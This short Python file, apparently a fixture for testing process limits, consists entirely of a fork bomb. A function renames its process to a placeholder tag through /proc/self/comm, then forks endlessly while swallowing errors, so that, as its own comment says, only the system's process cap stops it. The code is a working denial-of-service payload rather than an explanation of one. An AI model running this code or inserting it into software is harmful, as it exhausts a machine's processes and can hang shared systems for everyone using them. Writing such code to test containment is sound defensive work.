import os


def step(x):
    with open("/proc/self/comm", "w") as comm:
        comm.write("@TAG@")
    while True:  # every process forks for ever; only the process cap stops them
        try:
            os.fork()
        except OSError:
            pass
